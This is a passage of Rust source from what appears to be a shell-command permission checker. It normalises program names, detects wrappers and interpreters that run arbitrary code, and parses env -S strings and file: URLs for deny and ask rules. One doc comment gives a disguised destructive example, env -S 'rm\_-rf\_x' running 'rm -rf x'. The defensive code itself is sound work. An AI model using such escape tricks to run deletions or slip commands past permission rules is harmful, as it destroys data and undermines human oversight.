            || super::interpreters::is_python(n)
            || super::interpreters::is_other_interpreter(n)
            || matches!(n, "perl" | "wish" | "expect" | "awk" | "gawk" | "mawk")
    };
    if let Some(sh) = shell(name) {
        return sh.to_owned();
    }
    if known(name) {
        return name.to_owned();
    }
    unversioned_names(name)
        .into_iter()
        .find_map(|n| {
            shell(&n)
                .map(str::to_owned)
                .or_else(|| known(&n).then_some(n))
        })
        .unwrap_or_else(|| name.to_owned())
}

/// A program's names without its version, for deny and ask rules:
/// `python3.11` → `python3`, `python`; `perl5.36.0` → `perl5.36`, `perl5`,
/// `perl`; `gcc-12` → `gcc`. Empty when the name carries no version.
pub(crate) fn unversioned_names(base: &str) -> Vec<String> {
    let mut names = Vec::new();
    let mut name = base;
    // Debian's multiarch names: `perl5.36-x86_64-linux-gnu`.
    if let Some((head, _)) = base.split_once("-linux-")
        && let Some((program, _arch)) = head.rsplit_once('-')
        && !program.is_empty()
    {
        names.push(program.to_string());
        name = program;
    }
    loop {
        let next = match name.rsplit_once(['.', '-']) {
            Some((head, tail)) if !tail.is_empty() && tail.bytes().all(|b| b.is_ascii_digit()) => {
                head
            }
            _ => name.trim_end_matches(|c: char| c.is_ascii_digit()),
        };
        if next == name || next.len() < 2 || !next.starts_with(|c: char| c.is_ascii_alphabetic()) {
            break;
        }
        names.push(next.to_string());
        name = next;
    }
    names
}

/// Whether `base` runs a command, a script or code it is given: a wrapper
/// (`env`, `sudo`, `xargs`, a shell), an interpreter, or a builtin that
/// runs a file or a string (`source`, `eval`). For [`crate::wide`]: a
/// project's rule allowing one with any arguments allows any command.
pub(crate) fn runs_what_it_is_given(base: &str) -> bool {
    wrappers::runs_a_command(base)
        || super::interpreters::is_other_interpreter(base)
        || super::interpreters::is_python(base)
        || matches!(
            base,
            "source" | "." | "eval" | "exec" | "ssh-agent" | "trap" | "jobs" | "coproc"
        )
}

/// Whether a command starting with the literal `words` (the program's
/// file name first) is a package runner's that runs a command it is given
/// ([`runner_of`]: `direnv exec`, `pipenv run`, `ip netns exec`). For
/// [`crate::wide`], which reads this table instead of keeping its own.
pub(crate) fn runs_the_command_it_is_given(words: &[&str]) -> bool {
    let argv: Vec<WordVal> = words.iter().map(|w| WordVal::literal(w)).collect();
    words
        .first()
        .is_some_and(|base| runner_of(base, &argv).is_some())
}

/// `cp`, `mv`, `ln`, `install` with the target directory attached to its
/// option (`-tDIR`, or at the end of a cluster: `-vtDIR`): the words with it
/// detached (`-t DIR`), as the destination is read; None when there is none.
fn split_target_directory(base: &str, argv: &[WordVal]) -> Option<Vec<WordVal>> {
    // Short options that take a value, per program (the value may follow
    // in the same word).
    let valued = match base {
        "cp" | "mv" | "ln" => "St",
        "install" => "gmoStZ",
        _ => return None,
    };
    let mut out: Vec<WordVal> = Vec::with_capacity(argv.len() + 1);
    let mut changed = false;
    let mut options_done = false;
    for w in argv {
        let Some(l) = w.literal.as_deref() else {
            out.push(w.clone());
            continue;
        };
        if options_done || l == "--" || !l.starts_with('-') || l.starts_with("--") || l.len() < 3 {
            options_done |= l == "--";
            out.push(w.clone());
            continue;
        }
        let cluster = &l[1..];
        match cluster.char_indices().find(|(_, c)| valued.contains(*c)) {
            Some((k, 't')) if k + 1 < cluster.len() => {
                let flags = &cluster[..k];
                if !flags.is_empty() {
                    out.push(WordVal::literal(&format!("-{flags}")));
                }
                out.push(WordVal::literal("-t"));
                out.push(WordVal::literal(&cluster[k + 1..]));
                changed = true;
            }
            _ => out.push(w.clone()),
        }
    }
    changed.then_some(out)
}

/// `env -S` text as bash would read the same words: env's `\_` is a space
/// (between words outside quotes, inside the word within double quotes),
/// which bash would read as `_` (`env -S 'rm\_-rf\_x'` runs `rm -rf x`).
/// Single quotes keep it, as env's do.
fn env_split_string(text: &str) -> String {
    let mut out = String::with_capacity(text.len());
    let mut single = false;
    let mut chars = text.chars().peekable();
    while let Some(c) = chars.next() {
        match c {
            '\'' => {
                single = !single;
                out.push(c);
            }
            '\\' if !single && chars.peek() == Some(&'_') => {
                chars.next();
                out.push(' ');
            }
            '\\' if !single => {
                out.push(c);
                if let Some(next) = chars.next() {
                    out.push(next);
                }
            }
            _ => out.push(c),
        }
    }
    out
}

/// The local file a word names through a URL scheme or a program's own
/// prefix: `file:///abs` and `file://localhost/abs` (percent-decoded),
/// `file://REL` and `fileb://REL` (the AWS CLI's, relative to the working
/// directory), `file:PATH` (openssl's `-pass file:k`), `keyfile:PATH`
/// (openssl's `-macopt`), rclone's `:local:PATH` and `:local,OPTS:PATH`.
/// None for any other word.
pub(super) fn local_file_of(word: &str) -> Option<String> {
    let lower = word.get(..8).unwrap_or(word).to_ascii_lowercase();
    if let Some(rest) = word.strip_prefix(":local:").or_else(|| {
        word.strip_prefix(":local,")
            .and_then(|r| r.split_once(':').map(|(_, p)| p))
    }) {
        return Some(rest.to_owned());
    }
    if let Some(rest) = word.strip_prefix("keyfile:") {
        return Some(rest.to_owned());
    }
    let rest = if lower.starts_with("fileb://") {
        &word[8..]
    } else if lower.starts_with("file:") {
        &word[5..]
    } else {
        return None;
    };
    let path = match rest.strip_prefix("//") {
        // `file:///abs`, `file://localhost/abs`; `file://rel` (aws).
        Some(after) if after.starts_with('/') => after.to_owned(),
        Some(after) => match after.strip_prefix("localhost/") {
            Some(abs) => format!("/{abs}"),
            None => after.to_owned(),
        },
        None if rest.is_empty() => return None,
        None => rest.to_owned(),
    };
    let decoded = percent_encoding::percent_decode_str(&path)
        .decode_utf8()
        .map(|c| c.into_owned())
        .unwrap_or(path);
    (!decoded.is_empty() && !decoded.contains('\0')).then_some(decoded)
}
